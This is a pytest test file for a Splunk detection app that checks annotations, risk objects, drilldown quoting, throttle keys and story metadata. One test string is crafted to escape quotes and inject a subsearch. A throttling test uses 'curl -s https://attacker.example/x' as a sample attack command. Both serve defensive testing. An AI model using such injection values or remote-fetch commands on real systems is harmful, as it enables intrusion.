"""What Enterprise Security reads of the detections, and what is left of it without Enterprise Security.

The shapes are those of contentctl, Splunk's own tool for detection content, and of its published detections.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from datetime import date
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest

from searchhead.conf import read_conf
from searchhead.findings import SEVERITIES, finding
from searchhead.head import SearchHead
from searchhead.inputs import Reader
from searchhead.savedsearches import SavedSearch
from searchhead.spl.errors import Place
from searchhead.spl.pipeline import run
from searchhead.spl.values import Row, Value
from tests.apps import NOW, ROOT, STAND_INS, addons, package_abuse, table_column
from tests.case_logs import cases, logs_of
from tests.shipped import (
    DETECTIONS,
    MACRO_USE,
    compiled,
    for_each_detection,
    head,
    pipes,
    result_fields,
    setting,
    some_hit,
    stanza_of,
    tokens,
)

RISK_OBJECT_TYPES = {"system", "user", "other"}
# Those of contentctl's list that we use.
THREAT_OBJECT_TYPES = {
    *("command", "domain", "file_name", "file_path", "parent_process", "parent_process_name", "process"),
    *("process_name", "registry_path", "registry_value_name", "registry_value_text", "signature", "url"),
}
KILL_CHAIN = {
    *("Reconnaissance", "Weaponization", "Delivery", "Exploitation", "Installation"),
    *("Command and Control", "Actions on Objectives"),
}
DATA_MODELS = {"Endpoint.Processes", "Endpoint.Filesystem", "Endpoint.Registry", "Network_Traffic.All_Traffic"}
PRODUCTS = ["Splunk Enterprise", "Splunk Enterprise Security", "Splunk Cloud"]
STORY_CATEGORIES = {"Abuse", "Adversary Tactics", "Best Practices", "Malware", "Vulnerability"}
# Triggered alerts know levels from 1 (debug) to 6 (fatal).
ALERT_SEVERITIES = dict(zip(SEVERITIES, ("2", "3", "4", "5", "6"), strict=True))
# A detection's run looks at 90 minutes, every hour.
WINDOW, INTERVAL = 5400, 3600

STORIES = package_abuse().conf("analyticstories").stanzas


def texts_list(value: object, pattern: str = r".*\S.*") -> bool:
    """Whether it is a list of different texts, each like the pattern; without one it is empty."""
    return (
        isinstance(value, list) and len(set(value)) == len(value) and all(re.fullmatch(pattern, one) for one in value)
    )


def severity(detection: SavedSearch) -> str:
    """The highest static risk score in words."""
    most = max(one.get("risk_score", 0) for one in setting(detection, "action.risk.param._risk"))
    return finding(detection, {"risk_score": most}).severity


def hit_rows(slug: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Every row of every hit: each has all fields that are not null (tests/test_detections.py)."""
    for path, case in cases(slug):
        if case["kind"] == "hit":
            for row in case["rows"]:
                yield path.stem, row


# ---------------------------------------------------------------- the shape of what is JSON


@for_each_detection
def test_annotations_have_the_shape_that_enterprise_security_reads(detection: SavedSearch) -> None:
    annotations = setting(detection, "action.correlationsearch.annotations")
    assert list(annotations) == sorted(annotations)
    assert set(annotations) == {
        *("analytic_story", "cis20", "cve", "data_source", "kill_chain_phases", "mitre_attack", "nist"),
        *("type", "type_list"),
    }
    assert annotations["type"] in {"TTP", "Anomaly", "Hunting", "Correlation"}
    assert annotations["type_list"] == [annotations["type"]]
    assert all(annotations[name] for name in set(annotations) - {"cve"})
    assert texts_list(annotations["analytic_story"])
    assert texts_list(annotations["cis20"], r"CIS \d{1,2}")
    assert texts_list(annotations["cve"], r"CVE-\d{4}-\d{4,}")
    assert texts_list(annotations["data_source"])
    assert texts_list(annotations["mitre_attack"], r"T\d{4}(?:\.\d{3})?")
    assert texts_list(annotations["nist"], r"(?:DE|ID|PR|RS)\.[A-Z]{2}")
    assert set(annotations["kill_chain_phases"]) <= KILL_CHAIN


@for_each_detection
def test_what_is_said_twice_is_said_alike(detection: SavedSearch) -> None:
    annotations = setting(detection, "action.correlationsearch.annotations")
    mappings = {name: annotations[name] for name in ("cis20", "kill_chain_phases", "mitre_attack", "nist")}
    told = STORIES[f"savedsearch://{detection.name}"]
    stanza = stanza_of(detection)
    assert setting(detection, "action.escu.analytic_story") == annotations["analytic_story"]
    assert setting(detection, "action.escu.mappings") == mappings == json.loads(told["annotations"])
    technologies = setting(detection, "action.escu.providing_technologies")
    assert technologies == json.loads(told["providing_technologies"])
    assert stanza["action.escu.confidence"] == told["confidence"]


@for_each_detection
def test_techniques_are_known_to_attack(detection: SavedSearch) -> None:
    assert detection.mitre_attack
    assert set(detection.mitre_attack) <= set(table_column("package_techniques", "technique"))


@for_each_detection
def test_metadata_has_numbers_as_texts_and_a_time_as_number(detection: SavedSearch) -> None:
    metadata = setting(detection, "action.correlationsearch.metadata")
    assert set(metadata) == {"deprecated", "detection_id", "detection_version", "publish_time"}
    assert metadata["deprecated"] in {"0", "1"}
    assert re.fullmatch(r"[1-9]\d*", metadata["detection_version"])
    assert isinstance(metadata["publish_time"], float)
    assert str(UUID(metadata["detection_id"])) == metadata["detection_id"]


def test_no_two_detections_have_the_same_id_or_label() -> None:
    ids = [setting(one, "action.correlationsearch.metadata")["detection_id"] for one in DETECTIONS]
    assert len(set(ids)) == len(ids)
    labels = [stanza_of(one)["action.correlationsearch.label"] for one in DETECTIONS]
    assert len(set(labels)) == len(labels)


@for_each_detection
def test_what_the_update_page_of_escu_shows_has_its_shape(detection: SavedSearch) -> None:
    stanza = stanza_of(detection)
    assert (stanza["action.escu"], stanza["action.escu.enabled"]) == ("0", "1")
    assert stanza["action.escu.search_type"] == "detection"
    assert stanza["action.correlationsearch.detection_type"] == "ebd"
    assert stanza["action.escu.confidence"] in {"low", "medium", "high"}
    assert setting(detection, "action.escu.product") == PRODUCTS
    assert texts_list(setting(detection, "action.escu.providing_technologies"))
    created, changed = (date.fromisoformat(stanza[f"action.escu.{name}_date"]) for name in ("creation", "modification"))
    assert created <= changed
    for name in ("eli5", "how_to_implement", "known_false_positives"):
        assert stanza[f"action.escu.{name}"].endswith("."), name


@for_each_detection
def test_the_data_models_named_are_those_that_are_read(detection: SavedSearch) -> None:
    named = setting(detection, "action.escu.data_models")
    assert texts_list(named)
    assert set(named) <= DATA_MODELS
    read = set(re.findall(r"\bdatamodel=(\w+(?:\.\w+)?)", compiled(detection).commands[0]))
    read = {"Network_Traffic.All_Traffic" if one == "Network_Traffic" else one for one in read}
    assert read <= set(named)


@for_each_detection
def test_risk_and_threat_objects_are_fields_of_the_result(detection: SavedSearch) -> None:
    objects = setting(detection, "action.risk.param._risk")
    risk = [one for one in objects if "risk_object_field" in one]
    threat = objects[len(risk) :]
    assert [set(one) for one in risk] == [{"risk_object_field", "risk_object_type", "risk_score"}] * len(risk)
    assert [set(one) for one in threat] == [{"threat_object_field", "threat_object_type"}] * len(threat)
    # Null for who is unknown, and for accounts of the system.
    assert [(one["risk_object_field"], one["risk_object_type"]) for one in risk] == [
        ("risk_dest", "system"),
        ("risk_user", "user"),
    ]
    assert {one["risk_object_type"] for one in risk} <= RISK_OBJECT_TYPES
    assert all(isinstance(one["risk_score"], int) and 1 <= one["risk_score"] <= 100 for one in risk)
    assert threat
    assert {one["threat_object_type"] for one in threat} <= THREAT_OBJECT_TYPES
    fields = {one["risk_object_field"] for one in risk} | {one["threat_object_field"] for one in threat}
    assert fields <= result_fields(detection)
    # What a finding is about is the host, as one of the risk objects has it.
    assert setting(detection, "action.notable.param._entities") == risk[:1]
    stanza = stanza_of(detection)
    assert (stanza["action.risk.param._risk_score"], stanza["action.risk.param.verbose"]) == ("0", "0")


@for_each_detection
def test_next_steps_are_sentences_in_the_form_of_version_1(detection: SavedSearch) -> None:
    steps = setting(detection, "action.notable.param.next_steps")
    assert list(steps) == ["version", "data"]
    assert steps["version"] == 1
    assert re.fullmatch(r"[A-Z].*\.", steps["data"])


# ---------------------------------------------------------------- actions, with and without Enterprise Security


@for_each_detection
def test_actions_follow_the_type(detection: SavedSearch) -> None:
    kind = setting(detection, "action.correlationsearch.annotations")["type"]
    expected = {"TTP": ("1", "1"), "Anomaly": ("1", "0"), "Hunting": ("0", "0"), "Correlation": ("0", "1")}
    stanza = stanza_of(detection)
    assert (stanza["action.risk"], stanza["action.notable"]) == expected[kind]


@for_each_detection
def test_severities_follow_from_the_highest_risk_score(detection: SavedSearch) -> None:
    stanza = stanza_of(detection)
    assert stanza["action.notable.param.severity"] == severity(detection)
    assert stanza["alert.severity"] == ALERT_SEVERITIES[severity(detection)]


@for_each_detection
def test_without_enterprise_security_any_result_triggers_an_alert_that_is_listed(detection: SavedSearch) -> None:
    stanza = stanza_of(detection)
    names = ("alert.track", "alert.digest_mode", "counttype", "relation", "quantity")
    assert [stanza[name] for name in names] == ["1", "1", "number of events", "greater than", "0"]


@for_each_detection
def test_a_summary_index_is_written_only_where_a_site_asks_for_it(detection: SavedSearch) -> None:
    stanza = stanza_of(detection)
    assert (stanza["action.summary_index"], stanza["action.summary_index._name"]) == ("0", "summary")


# ---------------------------------------------------------------- tokens and drilldowns


@for_each_detection
def test_every_token_is_a_field_of_the_result(detection: SavedSearch) -> None:
    texts = [value for name, value in stanza_of(detection).items() if name.startswith("action.")]
    assert set().union(*map(tokens, texts)) <= result_fields(detection)


@for_each_detection
def test_no_row_of_a_hit_lacks_a_field_that_a_token_names(detection: SavedSearch) -> None:
    # Nothing would replace the token: the title would show it as it is, and the drilldown would not parse.
    texts = [value for name, value in stanza_of(detection).items() if name.startswith("action.")]
    named = set().union(*map(tokens, texts))
    lacking = [(case, name) for case, row in hit_rows(detection.slug) for name in sorted(named) if not row.get(name)]
    assert lacking == []


@for_each_detection
def test_the_first_drilldowns_are_the_detection_for_the_host_and_its_risk_of_seven_days(detection: SavedSearch) -> None:
    results, risk, _ = setting(detection, "action.notable.param.drilldown_searches")
    # Drilldowns run in another app: there only our exported macros are seen, and the site's own filter is not. They
    # open from a link, where a search that writes would first be asked about: the exceptions are not counted there.
    first, *shown, exceptions, site_filter = pipes(detection.search)
    assert (exceptions, site_filter) == (f"`package_exceptions({detection.slug})`", f"`{detection.slug}_filter`")
    first = first.replace("`wineventlog_", "`package_")
    own = f"`package_excepted({detection.slug})`"
    assert pipes(results["search"]) == [first, *shown, own, "search dest=$dest|s$"]
    assert (results["earliest_offset"], results["latest_offset"]) == ("$info_min_time$", "$info_max_time$")
    assert "$dest|s$" in risk["search"]
    assert "starthoursago" not in risk["search"]  # broken since Enterprise Security 8
    assert (risk["earliest_offset"], risk["latest_offset"]) == ("7d", "0")


@for_each_detection
def test_the_third_drilldown_drafts_an_exception_of_all_that_one_can_name(detection: SavedSearch) -> None:
    *_, draft = setting(detection, "action.notable.param.drilldown_searches")
    first, assigned, last = pipes(draft["search"])
    assert (first, last) == ("makeresults", "`package_exception_draft`")
    fields = result_fields(detection)
    named = ("dest", "user", "package_family_name", "package_publisher_id")
    expected = [f'detection="{detection.slug}"', *(f"{name}=${name}|s$" for name in named if name in fields)]
    # What an attacker writes freely is left to the person: Enterprise Security's manual says that the filter s escapes
    # quotes, and nothing of a backslash before one, with which a value would leave them.
    expected += ['process="?"'] if "process" in fields else []
    expected += ['source="?"'] if fields & {"package_source_uri", "source"} else []
    assert assigned == f"eval {', '.join(expected)}"
    assert (draft["earliest_offset"], draft["latest_offset"]) == ("1h", "0")


@for_each_detection
def test_drilldowns_use_exported_macros_and_quoted_tokens_outside_of_their_arguments(detection: SavedSearch) -> None:
    drilldowns = setting(detection, "action.notable.param.drilldown_searches")
    names = [one["name"] for one in drilldowns]
    assert len(set(names)) == len(names) == 3
    for one in drilldowns:
        assert set(one) == {"name", "search", "earliest_offset", "latest_offset"}
        assert all(name.startswith("package_") for name, _ in MACRO_USE.findall(one["search"]))
        # A value with a quote or a backtick would otherwise become part of the search.
        assert not [token for token in re.findall(r"\$\w+\|?s?\$", one["search"]) if not token.endswith("|s$")]
        assert not re.findall(r"`[^`]*\$\w+\|s\$[^`]*`", one["search"])
        # An anchor of a regular expression and the next one must not look like a token together.
        assert [text for text in re.findall(r"\$[^\s$]+\$", one["search"]) if not tokens(text)] == []


HOSTILE = 'a"b\\c | `x` $dest$ \\" [ | outputlookup y ]'


def quoted(value: str) -> str:
    """A value as the filter ``|s`` puts it into a search: in double quotes, with quotes and backslashes escaped."""
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def filled(search: str, row: dict[str, Any]) -> str:
    """The search of a drilldown with its tokens replaced by the values of a finding."""
    return re.sub(r"\$(\w+)\|s\$", lambda token: quoted(str(row[token[1]])), search)


def saved(text: str) -> SavedSearch:
    place = Place("default/savedsearches.conf", 1, "drilldown")
    return SavedSearch("drilldown", text, "drilldown", "drilldown", (), place)


@for_each_detection
def test_the_first_drilldown_finds_what_the_detection_found(detection: SavedSearch, tmp_path: Path) -> None:
    path, case = some_hit(detection.slug)
    for name, text in logs_of(path, case).items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    results = setting(detection, "action.notable.param.drilldown_searches")[0]
    row = next(row for row in case["rows"] if row["dest"] != "-")
    used = SearchHead(package_abuse(), addons(*STAND_INS), now=NOW)
    searches = [used.compile(one) for one in (detection, saved(filled(results["search"], row)))]
    state = [used.compile(one) for one in used.state_searches(searches)]
    for name, records in case.get("lookups", {}).items():
        used.lookups.get(name).write(records)
    *_, found, shown = used.run([*state, *searches], Reader().read([tmp_path]))
    assert shown == [one for one in found if one["dest"] == row["dest"]] != []


@for_each_detection
def test_no_value_of_a_finding_gets_out_of_its_quotes(detection: SavedSearch) -> None:
    *_, draft = setting(detection, "action.notable.param.drilldown_searches")
    row = dict.fromkeys(result_fields(detection), HOSTILE)
    first = run(head().compile(saved(filled(draft["search"], row))))[0]
    assert first["detection"] == detection.slug
    assert first["dest"] == HOSTILE


# ---------------------------------------------------------------- throttling


def throttled(rows: Sequence[tuple[float, Row]], period: float) -> list[Row]:
    """Those that still raise a finding when Splunk throttles by throttle_key: of a key one in a period."""
    until: dict[Value | None, float] = {}
    raised = []
    for time, row in rows:
        key = row["throttle_key"]
        if time >= until.get(key, 0.0):
            until[key] = time + period
            raised.append(row)
    return raised


def key_of(macro: str = "package_risk_objects", /, **fields: str | float) -> str:
    """The throttle_key that a macro gives a row with these fields and no others."""
    given = ", ".join(f"{name}={json.dumps(value)}" for name, value in fields.items())
    [row] = run(head().compile(saved(f"| makeresults | eval {given or 'nothing=1'} | `{macro}`")))
    key = row["throttle_key"]
    assert isinstance(key, str)
    return key


def seconds(stanza: dict[str, str] | Any, name: str) -> int:
    found = re.fullmatch(r"-(\d+)m@m", stanza[name])
    assert found
    return 60 * int(found[1])


@for_each_detection
def test_throttling_is_longer_than_the_window_and_the_window_longer_than_the_hour(detection: SavedSearch) -> None:
    stanza = stanza_of(detection)
    assert (stanza["alert.suppress"], stanza["alert.suppress.fields"]) == ("1", "throttle_key")
    assert "throttle_key" in result_fields(detection)
    period = int(stanza["alert.suppress.period"].removesuffix("s"))
    window = seconds(stanza, "dispatch.earliest_time") - seconds(stanza, "dispatch.latest_time")
    assert period >= 4 * 3600 > window == WINDOW > INTERVAL


@for_each_detection
def test_a_key_is_made_in_one_way_and_only_lengthened(detection: SavedSearch) -> None:
    made = [
        found
        for command in compiled(detection).commands
        if command.startswith("eval ")
        for found in re.findall(r"throttle_key=(.{40})", command)
    ]
    assert made[0].startswith('coalesce(lower(dest), "-")."|".coalesce(')
    assert all(one.startswith('throttle_key."|".coalesce(') for one in made[1:])


@for_each_detection
def test_every_row_has_a_key_of_host_thing_outcome_and_score(detection: SavedSearch) -> None:
    for case, row in hit_rows(detection.slug):
        key = row["throttle_key"]
        assert isinstance(key, str), case
        assert key.startswith(f"{row['dest'].lower()}|"), case
        # What the finding is about may itself hold a bar; outcome and score follow it, then what tells more.
        found = re.search(r"\|(-|installed|failed|blocked|removed|unknown)\|(\d)(?:\||$)", key)
        assert found, (case, key)
        assert found[1] == row.get("package_outcome", row.get("msi_outcome", "-")), case
        assert int(found[2]) == row["risk_score"] // 20, case


@pytest.mark.parametrize(
    ("fields", "key"),
    [
        ({}, "-|-|-|0"),
        ({"dest": "WS-1.corp.example"}, "ws-1.corp.example|-|-|0"),
        ({"dest": "-", "risk_score": "much"}, "-|-|-|0"),
        ({"dest": "ws-1", "process_name": "curl", "risk_score": 100}, "ws-1|curl|-|5"),
        ({"dest": "ws-1", "process_name": "curl", "package_family_name": "A_b"}, "ws-1|A_b|-|0"),
        ({"dest": "ws-1", "process_name": "curl", "package_family_name": "-"}, "ws-1|curl|-|0"),
        ({"dest": "ws-1", "process_name": "curl", "package_family_name": ""}, "ws-1|curl|-|0"),
        ({"dest": "ws-1", "process_name": "curl", "package_subject": "x"}, "ws-1|x|-|0"),
        ({"dest": "ws-1", "msi_outcome": "failed", "risk_score": 60}, "ws-1|-|failed|3"),
    ],
)
def test_a_key_is_never_null(fields: dict[str, str | float], key: str) -> None:
    assert key_of(**fields) == key


def test_a_repetition_is_suppressed_until_the_period_is_over() -> None:
    row: Row = {"throttle_key": key_of(dest="ws-1", package_family_name="A_b", package_outcome="installed")}
    assert throttled([(0, row), (3600, row), (86399, row)], 86400) == [row]
    assert throttled([(0, row), (86400, row)], 86400) == [row, row]


def test_what_failed_and_is_then_installed_is_not_suppressed() -> None:
    same: dict[str, str | float] = {"dest": "ws-1", "package_family_name": "A_b", "risk_score": 45}
    failed, installed = ({"throttle_key": key_of(package_outcome=one, **same)} for one in ("failed", "installed"))
    rows: list[tuple[float, Row]] = [(0, {**failed}), (60, {**installed}), (120, {**failed})]
    assert throttled(rows, 86400) == [failed, installed]


def test_the_case_of_a_refusal_and_the_installation_after_it_raises_both() -> None:
    path = "windows_msix_deployment_refused_by_trust_or_policy/installed_after_refusal.toml"
    [case] = [case for one, case in cases("windows_msix_deployment_refused_*") if str(one).endswith(path)]
    rows = list(enumerate(case["rows"]))
    assert [row["package_outcome"] for row in throttled(rows, 86400)] == ["failed", "installed"]


def test_what_two_installations_with_one_command_start_is_told_twice() -> None:
    # "npm install" is the same in every project: this morning's prebuilt binary must not hide this evening's attack.
    same: dict[str, str | float] = {"dest": "ci-1", "process_name": "curl", "risk_score": 30, "installer": "npm"}
    commands = ("curl -sO https://cdn.vendor.example/a.node", "curl -s https://attacker.example/x")
    fetched, attacked, again = (
        key_of("package_installer_risk_objects", **same, installer_process="npm install", process=command)
        for command in (*commands, commands[0])
    )
    assert fetched == again
    assert fetched != attacked
    assert key_of("package_installer_risk_objects", **{**same, "process": "curl"}) != fetched


def test_a_rising_score_is_told_again() -> None:
    rows: list[tuple[float, Row]] = [
        (at, {"throttle_key": key_of(dest="ws-1", process_name="curl", risk_score=score)})
        for at, score in enumerate((25, 39, 40, 59, 100))
    ]
    assert [at for at, row in rows if row in throttled(rows, 86400)] == [0, 1, 2, 3, 4]
    assert len(throttled(rows, 86400)) == 3


# ---------------------------------------------------------------- stories, and the files beside


def test_every_detection_has_its_story_entry_and_the_reverse() -> None:
    stories = [stanza for name, stanza in STORIES.items() if name.startswith("analytic_story://")]
    told = {name.removeprefix("savedsearch://") for name in STORIES if name.startswith("savedsearch://")}
    names = {one.name for one in DETECTIONS}
    assert told == names
    assert {name for story in stories for name in json.loads(story["searches"])} == names
    assert len(stories) + len(told) == len(STORIES)


@for_each_detection
def test_the_story_entry_of_a_detection_has_its_shape(detection: SavedSearch) -> None:
    told = STORIES[f"savedsearch://{detection.name}"]
    assert set(told) == {
        *("type", "asset_type", "confidence", "explanation", "how_to_implement", "annotations"),
        *("known_false_positives", "providing_technologies"),
    }
    assert (told["type"], told["asset_type"]) == ("detection", "Endpoint")
    for name in ("explanation", "how_to_implement", "known_false_positives"):
        assert told[name].endswith("."), name


@pytest.mark.parametrize("name", [name for name in STORIES if name.startswith("analytic_story://")])
def test_a_story_has_its_shape(name: str) -> None:
    story = STORIES[name]
    assert set(story) == {
        *("category", "last_updated", "version", "references", "maintainers", "spec_version", "searches"),
        *("description", "narrative"),
    }
    assert name.startswith("analytic_story://Package Abuse - ")
    assert story["category"] in STORY_CATEGORIES
    assert date.fromisoformat(story["last_updated"])
    assert (int(story["version"]) >= 1, story["spec_version"]) == (True, "3")
    assert texts_list(json.loads(story["references"]), r"https://\S+")
    assert [set(one) for one in json.loads(story["maintainers"])] == [{"company", "email", "name"}]
    assert json.loads(story["searches"]) == [
        one.name for one in DETECTIONS if one.name in json.loads(story["searches"])
    ]
    assert story["description"].endswith(".")
    assert story["narrative"].endswith(".")


# What Splunk itself knows, of the files that we ship; it reloads and replicates these without being told.
SPLUNKS_OWN = {
    *("app", "collections", "commands", "eventtypes", "macros", "props", "savedsearches", "searchbnf", "server"),
    *("tags", "transforms", "workflow_actions"),
}


def test_conf_files_that_splunk_does_not_know_are_reloaded_and_replicated() -> None:
    foreign = {path.stem for path in (ROOT / "default").glob("*.conf")} - SPLUNKS_OWN
    assert foreign == {"analyticstories", "content-version"}
    app = package_abuse()
    assert dict(app.conf("app").stanzas["triggers"]) == {f"reload.{name}": "simple" for name in foreign}
    server = read_conf(ROOT / "default" / "server.conf").stanzas
    assert set(server) == {"shclustering"}
    assert dict(server["shclustering"]) == {f"conf_replication_include.{name}": "true" for name in foreign}


def test_every_file_names_the_same_version_and_id() -> None:
    app = package_abuse().conf("app").stanzas
    manifest = json.loads((ROOT / "app.manifest").read_text(encoding="utf-8"))["info"]["id"]
    content = read_conf(ROOT / "default" / "content-version.conf").stanzas
    assert list(content) == ["content-version"]
    assert dict(content["content-version"]) == {"version": app["id"]["version"]}
    assert app["launcher"]["version"] == app["id"]["version"] == manifest["version"]
    assert app["package"]["id"] == app["id"]["name"] == manifest["name"] == "package_abuse"
    assert int(app["install"]["build"]) >= 1
